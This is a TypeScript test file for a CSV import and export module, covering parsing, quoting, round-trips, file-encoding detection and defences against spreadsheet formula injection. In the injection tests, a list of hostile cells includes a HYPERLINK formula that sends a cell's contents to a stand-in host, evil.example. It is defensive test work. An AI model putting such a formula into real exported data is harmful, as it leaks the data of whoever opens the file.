import { describe, expect, it } from "vitest";
import { csvLines, decodeCsvFile, parseCsv, restoreCell, toCsv } from "./csv.ts";

describe("parseCsv (spec §5 CSV import)", () => {
  it("reads the first line as column names and each further line as a row", () => {
    const { columns, rows, problems } = parseCsv("title,slug\nFirst,first\nSecond,second\n");
    expect(columns).toEqual(["title", "slug"]);
    expect(rows).toEqual([
      { title: "First", slug: "first" },
      { title: "Second", slug: "second" },
    ]);
    expect(problems).toEqual([]);
  });

  it("honours double quotes around cells holding commas, quotes and line breaks", () => {
    const { rows } = parseCsv('title,content_html\n"Docks, Lifts and ""Wake"" Zones","<p>One</p>\r\n<p>Two, three</p>"\n');
    expect(rows).toEqual([{ title: 'Docks, Lifts and "Wake" Zones', content_html: "<p>One</p>\r\n<p>Two, three</p>" }]);
  });

  it("ignores blank lines, whitespace-only lines and lines whose cells are all empty", () => {
    const { rows } = parseCsv("title,slug\r\n\r\nA,a\r\n   \r\n,\r\n\r\nB,b\r\n\r\n");
    expect(rows.map((row) => row.title)).toEqual(["A", "B"]);
  });

  it("tolerates a byte-order mark", () => {
    const { columns, rows } = parseCsv("\ufefftitle,slug\nA,a");
    expect(columns).toEqual(["title", "slug"]);
    expect(rows).toEqual([{ title: "A", slug: "a" }]);
  });

  it("trims and lower-cases column names but keeps cells exactly", () => {
    const { columns, rows } = parseCsv(" Title , SLUG \n  Spaced  ,a\n");
    expect(columns).toEqual(["title", "slug"]);
    expect(rows[0]).toEqual({ title: "  Spaced  ", slug: "a" });
  });

  it("gives short lines empty cells for the missing columns", () => {
    expect(parseCsv("title,slug,excerpt\nOnly title\n").rows).toEqual([{ title: "Only title", slug: "", excerpt: "" }]);
  });

  it("reports a quoted cell that is never closed, with its line", () => {
    const { problems } = parseCsv('title,slug\nA,a\n"Unclosed,b\n');
    expect(problems).toEqual(["Line 3: a quoted cell is never closed."]);
  });

  it("counts the non-empty cells a row has beyond the header's columns", () => {
    const { rows, extraCells } = parseCsv("title,slug\nA,a,extra,,more\nB,b,,\nC,c\n");
    expect(rows).toEqual([
      { title: "A", slug: "a" },
      { title: "B", slug: "b" },
      { title: "C", slug: "c" },
    ]);
    expect(extraCells).toEqual([2, 0, 0]);
  });

  it("reads a file with only a header as no rows", () => {
    expect(parseCsv("title,slug\n").rows).toEqual([]);
    expect(parseCsv("").rows).toEqual([]);
  });
});

describe("toCsv", () => {
  it("writes a header and rows in column order, ending lines with CRLF", () => {
    expect(toCsv(["a", "b"], [{ b: "2", a: "1" }, { a: "3" }])).toBe("a,b\r\n1,2\r\n3,\r\n");
  });

  it("quotes only cells that need it and doubles their quotes", () => {
    const csv = toCsv(["v"], [{ v: "plain" }, { v: "a,b" }, { v: 'say "hi"' }, { v: "two\nlines" }, { v: " edge " }]);
    expect(csv).toBe('v\r\nplain\r\n"a,b"\r\n"say ""hi"""\r\n"two\nlines"\r\n" edge "\r\n');
  });

  it("round-trips through parseCsv unchanged", () => {
    const rows = [
      { title: 'Docks, "Lifts"', slug: "docks", content_html: "<p>a</p>\r\n\r\n<p>b, c</p>\n" },
      { title: "  padded  ", slug: "", content_html: "" },
      { title: "=SUM(1)", slug: "formula", content_html: "\ufeffmark" },
    ];
    const parsed = parseCsv(toCsv(["title", "slug", "content_html"], rows));
    expect(parsed.rows).toEqual(rows);
  });
});

describe("formula neutralisation (OWASP CSV injection)", () => {
  const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"];

  it("writes a cell a spreadsheet would run with a leading quote", () => {
    for (const cell of hostile) expect(csvLines([[cell]]), JSON.stringify(cell)).toMatch(/^"?'/);
    const csv = toCsv(
      ["title"],
      hostile.map((title) => ({ title })),
    );
    for (const line of csv.split("\r\n").slice(1, -1)) expect(line, line).toMatch(/^"?'/);
  });

  it("also quotes a cell that begins with a quote, so the author's quote survives", () => {
    expect(csvLines([["'Tis the season"], ["'=1"]])).toBe(`"''Tis the season"\r\n"''=1"\r\n`);
    expect(restoreCell("''Tis the season")).toBe("'Tis the season");
  });

  it("leaves other cells alone, and takes a quote off only before a character that needed it", () => {
    for (const cell of ["Docks", "", " =1", "1-2", "a=b"]) expect(csvLines([[cell, "x"]]), cell).not.toMatch(/^"?'/);
    for (const cell of ["'Tis", "'", "'a=b", "plain"]) expect(restoreCell(cell)).toBe(cell);
  });

  it("round-trips every cell exactly through toCsv and parseCsv", () => {
    const cells = [...hostile, "'Tis the season", "''", "'", "'=1", "'+", "-", "=", "normal, with comma", "'@x"];
    const rows = cells.map((title, index) => ({ title, slug: `s${index}` }));
    expect(parseCsv(toCsv(["title", "slug"], rows)).rows).toEqual(rows);
  });
});

describe("decodeCsvFile", () => {
  const bytes = (...parts: Array<string | number[]>) =>
    Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part, "utf8") : Buffer.from(part))));

  it("reads UTF-8, with or without a byte-order mark", () => {
    expect(decodeCsvFile(bytes("title,slug\nCafé,cafe\n"))).toEqual({ text: "title,slug\nCafé,cafe\n" });
    expect(decodeCsvFile(bytes([0xef, 0xbb, 0xbf], "title\n"))).toEqual({ text: "title\n" });
  });

  it("names a Latin-1 / Windows-1252 file and the line of its first foreign character", () => {
    const latin1 = Buffer.from("title,slug\nDocks,docks\nCaf\u00e9 on the Lake,cafe\n", "latin1");
    expect(decodeCsvFile(latin1)).toEqual({
      problem:
        'The file is not UTF-8 text (line 3 has a character in another encoding, such as Latin-1 or Windows-1252). Save it from your spreadsheet as "CSV UTF-8" and upload it again.',
    });
  });

  it("names UTF-16 text, with a byte-order mark either way round or without one", () => {
    const text = "title,slug\nDocks,docks\n";
    const little = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
    const big = Buffer.from(little).swap16();
    const bare = Buffer.from(text, "utf16le");
    for (const file of [little, big, bare]) {
      expect(decodeCsvFile(file)).toEqual({
        problem: 'The file is saved as UTF-16 text, not UTF-8. Save it from your spreadsheet as "CSV UTF-8" and upload it again.',
      });
    }
  });

  it("names binary data (a spreadsheet or an image renamed .csv)", () => {
    const zip = Buffer.concat([Buffer.from("PK\u0003\u0004\u0014\u0000\u0006\u0000", "latin1"), Buffer.alloc(64), Buffer.from([0x9c, 0xff, 0x80])]);
    const image = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(100, 0), Buffer.from([0xde, 0xad])]);
    for (const file of [zip, image]) {
      expect(decodeCsvFile(file)).toEqual({
        problem: "The file is not a CSV text file (it holds binary data). Save or export it as CSV and upload that file.",
      });
    }
  });

  it("leaves a lone NUL byte in a text file to the row it is in", () => {
    expect(decodeCsvFile(bytes("title,slug\nNul\u0000Title,nul\n"))).toEqual({ text: "title,slug\nNul\u0000Title,nul\n" });
  });
});
